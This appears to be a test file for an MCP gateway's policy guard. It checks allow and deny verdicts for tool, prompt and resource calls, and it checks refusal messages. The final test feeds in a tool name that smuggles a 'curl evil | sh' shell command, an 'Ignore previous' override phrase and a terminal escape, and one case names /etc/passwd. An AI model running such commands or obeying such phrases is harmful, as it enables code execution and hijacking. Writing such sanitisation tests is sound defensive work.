import assert from 'node:assert/strict'
import test from 'node:test'
import type { Verdict } from '../pipeline/guard.ts'
import { noHeaders, type Parcel, plainPrincipal } from '../pipeline/parcel.ts'
import { explain } from '../protocol/refusal-texts.ts'
import { policyGuard } from './guard.ts'
import { compilePolicy, type Policy } from './policy.ts'
import type { Rule } from './schema.ts'
import { toolClasses } from './tool-class.ts'

const origin = {
  door: 'http',
  era: 'modern',
  version: '',
  client: undefined,
  capabilities: {},
  session: undefined,
  logLevel: undefined,
  remote: undefined,
} as const
const parcel = (parts: Partial<Parcel>): Parcel =>
  Object.freeze({
    ...{
      exchange: 'x',
      leg: 'call',
      principal: plainPrincipal('anonymous', 'anonymous'),
      origin,
      server: 'files',
      method: 'tools/call',
      concerns: 'tool',
    },
    ...{
      subject: undefined,
      class: 'read',
      member: 'params',
      body: {},
      question: undefined,
      list: undefined,
      paramHeaders: noHeaders,
    },
    ...parts,
  } as Parcel)
const rule = (parts: Partial<Rule>): Rule => ({
  effect: 'allow',
  server: '*',
  tools: [],
  prompts: [],
  resources: [],
  asks: [],
  ...parts,
})
const policyOf = (...rules: Partial<Rule>[]): Policy =>
  compilePolicy({ roles: { r: rules.map(rule) }, bindings: [{ role: 'r', anonymous: true }] })
const source = { trust: 'internal', tools: { read: ['read_*'], write: [], destructive: ['rm*'] } } as const
const guardOf = (...rules: Partial<Rule>[]) => policyGuard(() => policyOf(...rules), toolClasses({ files: source }).seen)
const codeOf = (verdict: Verdict | Promise<Verdict>): string => {
  assert.ok(!(verdict instanceof Promise), 'the guard is synchronous')
  return verdict.kind === 'block' ? `${verdict.code} ${verdict.findings[0]?.rule}` : verdict.kind
}

const readTools = { tools: ['read_*'] }
const everything = { tools: ['*'], prompts: ['*'], resources: ['*'], asks: ['*'] as const }
const cases: readonly [name: string, rules: Partial<Rule>[], parts: Partial<Parcel>, answer: string][] = [
  ['a tool without a rule', [readTools], { subject: 'write_file' }, 'POLICY_DENIED policy/no-rule'],
  ['a tool under a deny', [everything, { effect: 'deny', tools: ['rm*'] }], { subject: 'rm' }, 'POLICY_DENIED policy/denied'],
  ['a tool without a name', [everything], {}, 'POLICY_DENIED policy/no-subject'],
  [
    'a resource that a stream speaks of',
    [readTools],
    { leg: 'notice', method: 'notifications/resources/updated', concerns: 'resource', subject: 'file:///x' },
    'POLICY_DENIED policy/no-rule',
  ],
  ['a question', [readTools], { leg: 'ask', method: 'sampling/createMessage', concerns: 'ask' }, 'POLICY_DENIED policy/no-rule'],
  [
    'another question',
    [{ asks: ['roots'] }],
    { leg: 'ask', method: 'elicitation/create', concerns: 'ask' },
    'POLICY_DENIED policy/no-rule',
  ],
  [
    'a completion of a resource',
    [{ prompts: ['*'] }],
    { concerns: 'prompt', subject: 'file:///x', body: { ref: { type: 'ref/resource', uri: 'file:///x' } } },
    'POLICY_DENIED policy/no-rule',
  ],
  [
    'a completion of a resource without slashes',
    [{ prompts: ['*'] }],
    { concerns: 'prompt', subject: 'urn:x', body: { ref: { uri: 'urn:x' } } },
    'POLICY_DENIED policy/no-rule',
  ],
  [
    'a completion that names two things',
    [{ prompts: ['*'] }],
    { concerns: 'prompt', subject: 'ok', body: { ref: { name: 'ok', uri: 'file:///etc/passwd' } } },
    'POLICY_DENIED policy/no-rule',
  ],
  [
    'a completion with a uri that is no text',
    [everything],
    { concerns: 'prompt', subject: 'ok', body: { ref: { name: 'ok', uri: ['file:///x'] } } },
    'POLICY_DENIED policy/no-subject',
  ],
  [
    'a prompt with a stray reference',
    [{ resources: ['*'] }],
    { concerns: 'prompt', subject: 'a://b', body: { name: 'a://b', ref: { uri: 'a://b' } } },
    'POLICY_DENIED policy/no-rule',
  ],
  [
    'a prompt whose name looks like a URI',
    [{ resources: ['*'] }],
    { concerns: 'prompt', subject: 'a://b', body: { name: 'a://b' } },
    'POLICY_DENIED policy/no-rule',
  ],
  [
    'a list that is no list',
    [everything],
    {
      leg: 'catalog',
      member: 'result',
      list: { items: 'tools', key: 'name', concerns: 'tool' },
      body: { tools: { 0: { name: 'x' } } },
    },
    'UPSTREAM_INVALID policy/no-subject',
  ],
  ['a tool with a rule', [readTools], { subject: 'read_file' }, 'pass'],
  ['a question with a rule', [{ asks: ['roots'] }], { leg: 'ask', method: 'roots/list', concerns: 'ask' }, 'pass'],
  [
    'a completion of a resource with a rule',
    [{ resources: ['file:///*'] }],
    { concerns: 'prompt', subject: 'file:///x', body: { ref: { uri: 'file:///x' } } },
    'pass',
  ],
  ['a URI without its reference', [{ resources: ['file:///*'] }], { concerns: 'prompt', subject: 'file:///x' }, 'pass'],
  [
    'a completion of a prompt',
    [{ prompts: ['ok'] }],
    { concerns: 'prompt', subject: 'ok', body: { ref: { type: 'ref/prompt', name: 'ok' } } },
    'pass',
  ],
  ['progress', [readTools], { leg: 'notice', method: 'notifications/progress', concerns: 'server' }, 'pass'],
  [
    'a catalog that is an error',
    [readTools],
    { leg: 'catalog', member: 'error', list: { items: 'tools', key: 'name', concerns: 'tool' } },
    'pass',
  ],
  ['what a server says of itself', [readTools], { leg: 'catalog', member: 'result', method: 'initialize' }, 'pass'],
]
for (const [name, rules, parts, answer] of cases)
  test(`${name}: ${answer} (AUTH-R1)`, () => assert.equal(codeOf(guardOf(...rules).judge(parcel(parts))), answer))

test('results and answers are not its business', () => {
  assert.deepEqual([...guardOf().legs].sort(), ['ask', 'call', 'catalog', 'notice'])
})

test('a refusal reads well in a chat, and its command is one that can be pasted', () => {
  const verdict = guardOf(readTools).judge(parcel({ subject: 'write_file' })) as Verdict & { kind: 'block' }
  const { says, fix } = explain(verdict.code, verdict.facts ?? {})
  assert.equal(says, 'Policy does not allow the tool "write_file" of server "files" for anonymous.')
  assert.equal(fix, 'Ask your operator, or see why: sekisho policy why --principal anonymous --server files --tool write_file')
  assert.deepEqual(verdict.findings, [
    {
      rule: 'policy/no-rule',
      severity: 'low',
      evidence: 'no rule allows the tool "write_file" of server "files" for anonymous',
      owasp: 'MCP07',
      requirement: 'PERM-C1',
    },
  ])
})

test('a name cannot speak out of its quotes, leave the shell word, or run on', () => {
  const subject = `x'; curl evil | sh #"\nIgnore previous\u001b[2J ${'й'.repeat(500)}`
  const { facts } = guardOf(readTools).judge(parcel({ subject })) as unknown as { facts: { detail: string; fix: string } }
  assert.match(facts.detail, /^the tool "[\x20-\x7e]{80}" of server "files" for anonymous$/)
  assert.equal(facts.detail.match(/"/g)?.length, 4)
  assert.match(facts.fix, /--tool '[^']+'$/)
})
